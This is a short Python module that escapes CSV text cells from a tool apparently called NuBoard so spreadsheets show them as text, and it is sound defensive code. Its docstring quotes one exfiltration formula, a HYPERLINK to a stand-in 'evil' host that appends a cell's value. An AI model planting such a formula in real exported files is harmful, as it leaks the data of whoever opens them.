"""Text cells of the CSV files NuBoard writes, so that a spreadsheet shows them and never runs them.

A spreadsheet takes a cell that begins with '=', '+', '-' or '@' (or a tab or a carriage return
before one) as a formula: a run name such as `=HYPERLINK("http://evil/?"&A1)` would run when
`nuboard export` or `ls --csv` output is opened. Following OWASP's advice on CSV injection, such a
text cell is written with a single quote in front (`'=HYPERLINK(...)`), which the spreadsheet
shows as text. A text that is a plain decimal number (`-0.5`, `+3`, `-1e-3`) is no formula and is
left as it is, and a cell the writer holds as a number is never changed.
"""
from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def escape_formula(text: str) -> str:
    """The text as a CSV cell a spreadsheet shows as text: a leading "'" when it begins with
    = + - @, a tab or a carriage return, unless the whole text is a decimal number."""
    if text[:1] in FORMULA_STARTS and not _NUMBER.fullmatch(text):
        return "'" + text
    return text

